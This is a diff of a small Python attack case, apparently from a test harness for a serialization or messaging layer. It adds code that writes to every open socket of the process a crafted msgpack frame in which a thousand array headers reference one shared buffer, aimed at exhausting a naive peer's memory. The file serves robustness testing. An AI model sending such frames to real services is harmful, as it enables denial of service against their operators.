@@ -1,14 +1,28 @@
 """Sends one array a thousand times over, for the grader to stack.
 
 layer: wire
-effect: not shown
+effect: naive peer
 """
 
-import numpy as np
+import contextlib
+import os
+import stat
+import sys
+
+
+def send(data):
+    """Write to every socket of this process."""
+    for descriptor in range(256):
+        with contextlib.suppress(OSError):
+            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
+                os.write(descriptor, data)
 
 
 def double(values, say):
     """The attack, where an answer is asked for."""
     say("ATTEMPT shared_arrays")
-    rows = np.zeros(200_000)
-    return [rows] * 1_000
+    rows = bytes(8 * 200_000)
+    arrays = ["l", [["a", "<f8", [200_000], [0], [1], 0]] * 1_000]
+    control = sys.modules["msgspec"].msgpack.encode([[len(rows)], ["d", [["re", "value"], ["value", arrays]]]])
+    send(len(control).to_bytes(4, "little") + control + rows)
+    return values
